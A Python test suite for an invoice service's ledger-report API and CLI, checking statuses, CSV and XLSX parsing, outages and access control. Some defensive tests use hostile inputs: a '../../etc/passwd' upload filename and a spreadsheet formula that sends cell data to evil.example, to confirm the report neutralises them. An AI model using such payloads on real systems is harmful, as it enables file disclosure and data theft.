"""`POST /api/v1/reports/ledger` and `invoice-verify report ledger`, through intake: a ledger
with every kind of line (CSV and XLSX, both schemes), every row of the output checked."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Awaitable, Callable
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from aiohttp import FormData
from typer.testing import CliRunner

from tests.conftest import Client, EsTarget, KeyMaker, bearer
from tests.factories import (
    BUYER,
    SELLER,
    SELLER_2,
    cancel,
    cn_digital,
    cn_invoice,
    package,
    vn_invoice,
    vn_key,
)
from tests.indexer.store.conftest import fresh_prefix
from tests.ledgers import csv_bytes, xlsx_bytes
from verify.app import create_app
from verify.cli.main import app
from verify.settings import Settings

URL = "/api/v1/reports/ledger"
MAY = {"buyer_tax_id": BUYER, "from": "2022-05-01", "to": "2022-05-31"}
CN_SELLER = "91110108MA01ABCD1X"
CN_BUYER = "91310115MA1K3XYZ2P"
VN_TZ = timezone(timedelta(hours=7))
TODAY = datetime.now(VN_TZ).date()
#: A series of this year, for the line issued today (inside the upstream window).
SERIES_NOW = f"C{TODAY.year % 100:02d}TAA"


@pytest.fixture(params=["sqlite", "elasticsearch"])
async def cli(request: pytest.FixtureRequest, aiohttp_client: Callable[..., Awaitable[Client]],
              tmp_path: Path, admin_token: str) -> Client:
    """The real app on each primary backend (the report reads the store through
    `get_invoices` and `scan_buyer_invoices`, both in the store contract suite)."""
    env = {"INVOICE_DATA_DIR": str(tmp_path / "data")}
    factory = None
    if request.param == "elasticsearch":
        target: EsTarget = request.getfixturevalue("es_target")
        env |= {"INVOICE_ES_URL": target.url, "INVOICE_ES_INDEX_PREFIX": fresh_prefix()}
        factory = target.client_factory
    app = create_app(Settings.from_env(env), es_client_factory=factory)
    return await aiohttp_client(app, headers=bearer(admin_token))


def vid(number: int, series: str = "C22TAA") -> str:
    return f"vn:{SELLER}:1:{series}:{number}"


INVOICES = [
    vn_invoice(1), vn_invoice(2), vn_invoice(3), vn_invoice(4), vn_invoice(5), vn_invoice(6),
    vn_invoice(7, buyer_tax_id=SELLER_2, buyer_name="Another buyer"),
    vn_invoice(9, kind="replacement", original=vn_key(4)),
    vn_invoice(10, kind="adjustment", original=vn_key(5), amount_before_tax="-100",
               tax_amount="-10", total_amount="-110"),
    vn_invoice(11, issued_at="2022-06-02T09:30:00+07:00"),  # after the period
    vn_invoice(12),
]
NOTICES = [cancel(3), cancel(12, notice_id="04SS-2022-0002")]

HEADER = ["seller_tax_id", "template", "series", "number", "issued_on", "amount",
          "tax_amount", "total_amount", "note"]
OK = ["1000000", "100000", "1100000"]


def vn_row(number: object, issued_on: object = "2022-05-15", amounts: list[object] = OK,
           series: str = "C22TAA") -> list[object]:
    return [SELLER, "1", series, number, issued_on, *amounts, "booked"]


LEDGER_ROWS: list[list[object]] = [
    vn_row(1),  # row 2: valid
    vn_row(2, "2022-05-16", ["1000000", "110000", "1200000"]),  # 3: mismatch
    vn_row(3), vn_row(4), vn_row(5),  # 4-6: cancelled, replaced, adjusted
    vn_row(7),  # 7: made out to another buyer
    vn_row(9),  # 8: the replacement, valid
    vn_row(50, "2022-05-20"),  # 9: not found
    vn_row(1, TODAY.isoformat(), series=SERIES_NOW),  # 10: inside an upstream window
    [],  # 11: a blank row is no line
    vn_row("abc"),  # 12: invalid key
    vn_row(13, amounts=["1000000", "100000", "1.100.000"]),  # 13: invalid amount
    vn_row(""),  # 14: no number
    vn_row(1),  # 15: listed twice
    vn_row(14, "15/05/2022"),  # 16: a date that is not ISO
]
LINE_TOTALS = {"lines": 14, "valid": 2, "mismatch": 2, "cancelled": 1, "replaced": 1,
               "adjusted": 1, "not_found": 1, "outside_window": 0, "unconfirmed": 1, "error": 5,
               "not_in_ledger": 3}


async def load(cli: Client) -> None:
    resp = await cli.post("/api/v1/packages", json=package(INVOICES, NOTICES))
    notice = await resp.json()
    assert notice["result"] == "accepted", notice


async def declare_upstream(cli: Client) -> int:
    now = datetime.now(UTC)
    resp = await cli.post("/api/v1/outages", json={
        "system": "upstream", "start": (now - timedelta(hours=1)).isoformat(),
        "end": (now + timedelta(hours=1)).isoformat(), "reason": "GDT adds nodes"})
    assert resp.status == 201, await resp.text()
    window_id: int = (await resp.json())["id"]
    return window_id


async def post(cli: Client, body: bytes, params: dict[str, str] | None = None, *,
               content_type: str = "text/csv", token: str | None = None,
               status: int = 200) -> Any:
    headers = {"Content-Type": content_type, **(bearer(token) if token else {})}
    resp = await cli.post(URL, params=MAY if params is None else params, data=body,
                          headers=headers)
    assert resp.status == status, await resp.text()
    if resp.content_type == "text/csv":
        return list(csv.DictReader(io.StringIO(await resp.text())))
    return await resp.json()


def mismatch(field: str, given: str | None, recorded: str | None) -> dict[str, str | None]:
    return {"field": field, "given": given, "recorded": recorded}


def verdicts(lines: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    """Per line: row, status, id, reason, mismatches, relations, error code."""
    return [(ln["row"], ln["status"], ln.get("id"), ln.get("reason"),
             [(m["field"], m["given"], m["recorded"]) for m in ln.get("mismatches", [])],
             [(r["relation"], r["id"] or r["notice_id"]) for r in ln.get("related", [])],
             ln["error"]["code"] if "error" in ln else None) for ln in lines]


EXPECTED = [
    (2, "valid", vid(1), None, [], [], None),
    (3, "mismatch", vid(2), None, [("total_amount", "1200000", "1100000"),
                                   ("issued_on", "2022-05-16", "2022-05-15"),
                                   ("tax_amount", "110000", "100000")], [], None),
    (4, "cancelled", vid(3), None, [], [("cancelled_by", "04SS-2022-0001")], None),
    (5, "replaced", vid(4), None, [], [("replaced_by", vid(9))], None),
    (6, "adjusted", vid(5), None, [], [("adjusted_by", vid(10))], None),
    (7, "mismatch", vid(7), None, [("buyer_tax_id", BUYER, SELLER_2)], [], None),
    (8, "valid", vid(9), None, [], [("replaces", vid(4))], None),
    (9, "not_found", vid(50), None, [], [], None),
    (10, "unconfirmed", vid(1, SERIES_NOW), "upstream_outage", [], [], None),
    (12, "error", None, None, [], [], "invalid_key"),
    (13, "error", None, None, [], [], "invalid_parameter"),
    (14, "error", None, None, [], [], "invalid_key"),
    (15, "error", None, None, [], [], "duplicate_line"),
    (16, "error", None, None, [], [], "invalid_parameter"),
]


async def test_every_kind_of_line_and_the_invoices_the_ledger_lacks(cli: Client) -> None:
    await load(cli)
    window_id = await declare_upstream(cli)
    body = await post(cli, csv_bytes(HEADER, LEDGER_ROWS))
    assert body["scope"] == {
        "buyer_tax_id": BUYER, "from": "2022-05-01", "to": "2022-05-31",
        "ledger": {"format": "csv", "lines": 14, "ignored_columns": ["note"],
                   "columns": {c: c for c in HEADER if c != "note"}}}
    assert verdicts(body["lines"]) == EXPECTED
    valid, *_ = body["lines"]
    assert valid == {
        "row": 2, "status": "valid", "reason": None, "id": vid(1), "scheme": "vn",
        "key": vn_key(1), "given": dict(zip(HEADER[:8], map(str, vn_row(1)), strict=False)),
        "invoice": valid["invoice"], "mismatches": [], "related": [], "source": "primary",
        "degraded": False, "as_of": valid["as_of"], "gap_id": None}
    assert (valid["invoice"]["id"], valid["invoice"]["total_amount"],
            valid["invoice"]["buyer_tax_id"]) == (vid(1), "1100000", BUYER)
    unconfirmed = body["lines"][8]
    assert unconfirmed["gap_id"] is not None
    assert unconfirmed["invoice"] is None
    gap = await (await cli.get(f"/api/v1/gaps/{unconfirmed['gap_id']}")).json()
    assert (gap["reason"], gap["outage_id"], gap["issued_on"], gap["lookup_key"]) == (
        "upstream_outage", window_id, TODAY.isoformat(), vid(1, SERIES_NOW))
    errors = {ln["row"]: ln["error"] for ln in body["lines"] if "error" in ln}
    assert errors[15] == {"code": "duplicate_line", "message": "the ledger lists this "
                          "invoice already", "details": {"id": vid(1), "first_row": 2}}
    assert errors[13]["details"] == {"parameter": "total_amount"}
    assert errors[16]["details"] == {"parameter": "issued_on"}
    # In force or not, everything made out to the buyer in May that no line names:
    assert [(e["id"], e["kind"], e["lifecycle"], e["total_amount"])
            for e in body["not_in_ledger"]] == [
        (vid(10), "adjustment", "issued", "-110"), (vid(12), "original", "cancelled", "1100000"),
        (vid(6), "original", "issued", "1100000")]
    assert body["not_in_ledger"][0]["key"] == vn_key(10)
    assert body["not_in_ledger_checked"] is True
    assert body["totals"] == LINE_TOTALS


async def test_csv_output_has_a_row_per_line_and_per_missing_invoice(cli: Client) -> None:
    await load(cli)
    await declare_upstream(cli)
    rows = await post(cli, csv_bytes(HEADER, LEDGER_ROWS), {**MAY, "format": "csv"})
    assert [(r["section"], r["row"], r["status"], r["id"], r["error_code"]) for r in rows] == [
        ("line", str(row), status, line_id or "", code or "")
        for row, status, line_id, _, _, _, code in EXPECTED] + [
        ("not_in_ledger", "", "not_in_ledger", vid(n), "") for n in (10, 12, 6)]
    by_row = {r["row"]: r for r in rows if r["section"] == "line"}
    assert {k: by_row["3"][k] for k in ("seller_tax_id", "template", "series", "number",
                                        "issued_on", "amount", "tax_amount", "total_amount",
                                        "lifecycle", "mismatches", "source")} == {
        "seller_tax_id": SELLER, "template": "1", "series": "C22TAA", "number": "2",
        "issued_on": "2022-05-16", "amount": "1000000", "tax_amount": "110000",
        "total_amount": "1200000", "lifecycle": "issued", "source": "primary",
        "mismatches": "total_amount: given 1200000, recorded 1100000; issued_on: given "
                      "2022-05-16, recorded 2022-05-15; tax_amount: given 110000, recorded "
                      "100000"}
    assert by_row["5"]["related"] == f"replaced_by {vid(9)}"
    assert (by_row["10"]["reason"], by_row["10"]["gap_id"] != "") == ("upstream_outage", True)
    assert (by_row["12"]["error_code"], by_row["12"]["error_message"]) == (
        "invalid_key", "the invoice key is not valid")
    unlisted = rows[-1]
    assert {k: unlisted[k] for k in ("number", "issued_on", "amount", "tax_amount",
                                     "total_amount", "lifecycle", "seller_tax_id")} == {
        "number": "6", "issued_on": "2022-05-15", "amount": "1000000", "tax_amount": "100000",
        "total_amount": "1100000", "lifecycle": "issued", "seller_tax_id": SELLER}


VN_HEADERS = ["MST người bán", "Ký hiệu mẫu số", "Ký hiệu hóa đơn", "Số hóa đơn", "Ngày lập",
              "Tiền trước thuế", "Tiền thuế", "Tổng tiền thanh toán", "Ghi chú"]


def as_spreadsheet(row: list[object]) -> list[object]:
    """Numbers as number cells and ISO dates as date cells, as a spreadsheet keeps them."""
    out: list[object] = []
    for value in row:
        if isinstance(value, str) and value.lstrip("-").isdigit() and not value.startswith("0"):
            out.append(int(value))
        elif isinstance(value, str) and len(value) == 10 and value[4] == value[7] == "-":
            out.append(date.fromisoformat(value))
        else:
            out.append(value)
    return out


async def test_an_xlsx_ledger_with_vietnamese_headers_reads_like_the_csv(cli: Client) -> None:
    await load(cli)
    await declare_upstream(cli)
    from_csv = await post(cli, csv_bytes(HEADER, LEDGER_ROWS))
    workbook = xlsx_bytes(VN_HEADERS, [as_spreadsheet(r) for r in LEDGER_ROWS])
    from_xlsx = await post(cli, workbook, content_type="application/vnd.openxmlformats-"
                           "officedocument.spreadsheetml.sheet")
    assert from_xlsx["scope"]["ledger"] == {
        "format": "xlsx", "lines": 14, "ignored_columns": ["Ghi chú"],
        "columns": dict(zip(HEADER[:8], VN_HEADERS[:8], strict=True))}

    def without_time(lines: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [{k: v for k, v in ln.items() if k != "as_of"} for ln in lines]

    assert without_time(from_xlsx["lines"]) == without_time(from_csv["lines"])
    assert verdicts(from_xlsx["lines"]) == EXPECTED
    assert from_xlsx["not_in_ledger"] == from_csv["not_in_ledger"]
    assert from_xlsx["totals"] == LINE_TOTALS


CN_INVOICES = [cn_invoice("00000011"), cn_invoice("00000014"), cn_invoice("00000015"),
               cn_digital(), cn_invoice("00000016", buyer_tax_id="91440300MA5F1XYZ3K")]
CN_HEADERS = ["发票代码", "发票号码", "开票日期", "金额", "税额", "价税合计", "销售方纳税人识别号"]


async def test_a_chinese_xlsx_ledger_with_codes_and_digital_numbers(cli: Client) -> None:
    resp = await cli.post("/api/v1/packages", json=package(CN_INVOICES))
    assert (await resp.json())["result"] == "accepted"
    workbook = xlsx_bytes(CN_HEADERS, [
        ["013002200211", "00000011", date(2023, 3, 23), 205.30, 12.32, 217.62, CN_SELLER],
        ["013002200211", "00000014", date(2023, 3, 23), 205.30, 12.33, 217.62,
         "91110108MA01ZZZZ9X"],
        [None, "23442000000014209621", date(2023, 2, 15), 105.66, 6.34, 112.00, None],
        ["013002200211", "00000099", "2023-03-01", None, None, 10, None],
        ["013002200211", 123456789, None, None, None, None, None],
    ])
    body = await post(cli, workbook, {"buyer_tax_id": CN_BUYER, "year": "2023"},
                      content_type="application/vnd.openxmlformats-officedocument."
                      "spreadsheetml.sheet")
    code = "cn:013002200211"
    assert verdicts(body["lines"]) == [
        (2, "valid", f"{code}:00000011", None, [], [], None),
        (3, "mismatch", f"{code}:00000014", None, [
            ("tax_amount", "12.33", "12.32"),
            ("seller_tax_id", "91110108MA01ZZZZ9X", CN_SELLER)], [], None),
        (4, "valid", "cn:23442000000014209621", None, [], [], None),
        (5, "not_found", f"{code}:00000099", None, [], [], None),
        (6, "error", None, None, [], [], "invalid_key")]
    assert body["lines"][0]["key"] == {"invoice_code": "013002200211",
                                       "invoice_number": "00000011"}
    assert body["lines"][0]["given"]["amount"] == "205.3"
    assert [e["id"] for e in body["not_in_ledger"]] == [f"{code}:00000015"]
    assert (body["scope"]["from"], body["scope"]["to"]) == ("2023-01-01", "2023-12-31")


async def test_with_the_primary_in_maintenance_lines_come_from_the_replica(
        cli: Client) -> None:
    await load(cli)
    now = datetime.now(UTC)
    resp = await cli.post("/api/v1/outages", json={
        "system": "primary", "start": (now - timedelta(minutes=1)).isoformat(),
        "end": (now + timedelta(hours=1)).isoformat(), "reason": "reindex"})
    assert resp.status == 201
    body = await post(cli, csv_bytes(HEADER, [vn_row(1), vn_row(3), vn_row(50, "2022-05-20")]))
    assert [(ln["status"], ln["source"], ln["degraded"], ln["reason"])
            for ln in body["lines"]] == [("valid", "replica", True, None),
                                         ("cancelled", "replica", True, None),
                                         ("unconfirmed", "replica", True, "primary_down")]
    assert body["lines"][2]["gap_id"] is not None
    assert (body["not_in_ledger"], body["not_in_ledger_checked"]) == ([], False)
    assert body["totals"]["unconfirmed"] == 1


async def test_multipart_upload_and_access(cli: Client, make_key: KeyMaker) -> None:
    await load(cli)
    ledger = csv_bytes(HEADER, [vn_row(1), vn_row(7)])
    form = FormData()
    form.add_field("note", "ignored")
    form.add_field("ledger", ledger, filename="../../etc/passwd", content_type="text/csv")
    resp = await cli.post(URL, params=MAY, data=form)
    assert resp.status == 200, await resp.text()
    assert [ln["status"] for ln in (await resp.json())["lines"]] == ["valid", "mismatch"]

    auditor = await make_key("audit", [BUYER], name="buyer's auditor")
    mine = await post(cli, ledger, token=auditor)
    other_buyers = mine["lines"][1]
    assert other_buyers["mismatches"] == [mismatch("buyer_tax_id", BUYER, None)]
    assert other_buyers["invoice"]["buyer_tax_id"] is None  # not the auditor's business
    assert other_buyers["invoice"]["redacted"] == ["buyer_tax_id", "buyer_name"]
    assert mine["lines"][0]["invoice"]["buyer_tax_id"] == BUYER

    stranger = await make_key("audit", [SELLER_2])
    denied = await post(cli, ledger, token=stranger, status=403)
    assert denied["error"]["code"] == "not_in_scope"
    verifier = await make_key("verify", [BUYER])
    assert (await post(cli, ledger, token=verifier, status=403))["error"]["code"] == (
        "forbidden")
    trail = await (await cli.get("/api/v1/admin/audit",
                                 params={"action": "report.ledger"})).json()
    # Newest first: the auditor's report, then the admin's multipart one; refusals are not
    # reports.
    assert [(e["target"], e["outcome"]) for e in trail["entries"]] == [
        (BUYER, "2 lines: 1 valid, 1 mismatch; 8 not in the ledger")] * 2
    assert trail["entries"][0]["key_id"] == auditor.split("_")[1]


@pytest.mark.parametrize(("params", "code"), [
    ({}, "invalid_report_query"),
    ({"buyer_tax_id": "12", "year": "2022"}, "invalid_report_query"),
    ({"buyer_tax_id": BUYER}, "invalid_report_query"),
    ({"buyer_tax_id": BUYER, "from": "2022-05-01"}, "invalid_report_query"),
    ({**MAY, "format": "xml"}, "invalid_report_query"),
    ({**MAY, "seller_tax_id": SELLER}, "unknown_parameter"),  # as on every route
])
async def test_bad_queries_are_400(cli: Client, params: dict[str, str], code: str) -> None:
    body = await post(cli, csv_bytes(HEADER, [vn_row(1)]), params, status=400)
    assert body["error"]["code"] == code


@pytest.mark.parametrize(("body", "status", "code"), [
    (b"", 400, "empty_ledger"),
    (b"seller,amount\n0100109106,1\n", 400, "missing_columns"),
    (b"number,invoice_number\n1,2\n", 400, "ambiguous_columns"),
    (b"PK\x03\x04 not really a zip", 400, "unreadable_ledger"),
    (b"number\n\xff\xff\n", 400, "unreadable_ledger"),
    (b"number\n" + b"1\n" * 100_001, 413, "ledger_too_large"),
])
async def test_files_that_are_no_ledger_are_refused_whole(
        cli: Client, body: bytes, status: int, code: str) -> None:
    answer = await post(cli, body, status=status)
    assert answer["error"]["code"] == code


async def test_other_bodies_are_refused(cli: Client) -> None:
    answer = await post(cli, b"{}", content_type="application/json", status=415)
    assert answer["error"]["code"] == "unsupported_media_type"
    form = FormData()
    form.add_field("file", b"number\n1\n", filename="l.csv", content_type="text/csv")
    resp = await cli.post(URL, params=MAY, data=form)
    assert resp.status == 400
    assert (await resp.json())["error"]["code"] == "missing_ledger"


def test_cli_report_ledger(tmp_path: Path) -> None:
    data_dir = str(tmp_path / "data")
    packaged = tmp_path / "package.json"
    packaged.write_text(json.dumps(package(INVOICES, NOTICES)))
    runner = CliRunner()
    ingested = runner.invoke(app, ["ingest", str(packaged), "--data-dir", data_dir],
                             catch_exceptions=False)
    assert ingested.exit_code == 0, ingested.output
    now = datetime.now(UTC)
    declared = runner.invoke(app, [
        "outage", "declare", "--system", "upstream", "--data-dir", data_dir,
        "--from", (now - timedelta(hours=1)).isoformat(),
        "--to", (now + timedelta(hours=1)).isoformat()], catch_exceptions=False)
    assert declared.exit_code == 0, declared.output
    ledger = tmp_path / "ledger.csv"
    ledger.write_bytes(csv_bytes(HEADER, LEDGER_ROWS))
    out = tmp_path / "report.csv"
    result = runner.invoke(app, ["report", "ledger", str(ledger), "--buyer-tax-id", BUYER,
                                 "--from", "2022-05-01", "--to", "2022-05-31", "--out",
                                 str(out), "--data-dir", data_dir], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert ("14 lines: 2 valid, 2 mismatch, 1 cancelled, 1 replaced, 1 adjusted, "
            "1 not_found, 1 unconfirmed, 5 error; 3 not in the ledger") in result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert [(r["row"], r["status"], r["reason"]) for r in rows] == [
        (str(row), status, reason or "") for row, status, _, reason, _, _, _ in EXPECTED] + [
        ("", "not_in_ledger", "")] * 3
    as_json = runner.invoke(app, ["report", "ledger", str(ledger), "--buyer-tax-id", BUYER,
                                  "--year", "2022", "--format", "json", "--data-dir",
                                  data_dir], catch_exceptions=False)
    assert as_json.exit_code == 0
    body = json.loads(as_json.stdout)
    assert verdicts(body["lines"]) == EXPECTED
    assert [e["id"] for e in body["not_in_ledger"]] == [vid(10), vid(12), vid(6), vid(11)]
    unreadable = tmp_path / "bad.csv"
    unreadable.write_bytes(b"amount\n1\n")
    refused = runner.invoke(app, ["report", "ledger", str(unreadable), "--buyer-tax-id", BUYER,
                                  "--year", "2022", "--data-dir", data_dir])
    assert refused.exit_code == 1
    assert "missing_columns" in refused.output


async def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(cli: Client) -> None:
    """A ledger's own cells come back in the CSV report (here a Chinese line's seller): a
    cell that starts like a formula gets a leading quote (OWASP CSV injection), a negative
    amount stays a number, and JSON's false/null are not written as Python's False/None."""
    resp = await cli.post("/api/v1/packages", json=package(CN_INVOICES))
    assert (await resp.json())["result"] == "accepted"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    ledger = csv_bytes(CN_HEADERS, [
        ["013002200211", "00000011", "2023-03-23", "205.30", "12.32", "217.62", formula],
        ["013002200211", "00000014", "2023-03-23", "205.30", "12.32", "217.62", "@SUM(A1)"],
        ["013002200211", "00000015", "2023-03-23", "205.30", "12.32", "217.62", "-2+3"],
        ["013002200211", "00000016", "2023-03-23", "-205.30", "12.32", "217.62", "+1+2"],
    ])
    rows = await post(cli, ledger, {"buyer_tax_id": CN_BUYER, "year": "2023",
                                    "format": "csv"})
    sellers = [r["seller_tax_id"] for r in rows if r["section"] == "line"]
    assert sellers == ["'" + formula, "'@SUM(A1)", "'-2+3", "'+1+2"]
    assert [r["amount"] for r in rows if r["section"] == "line"][3] == "-205.30"
    cells = [value for r in rows for value in r.values()]
    assert not {"True", "False", "None"} & set(cells)
    assert [v for v in cells if v and v.startswith(("=", "+", "@", "\t", "\r", "-2+"))] == []
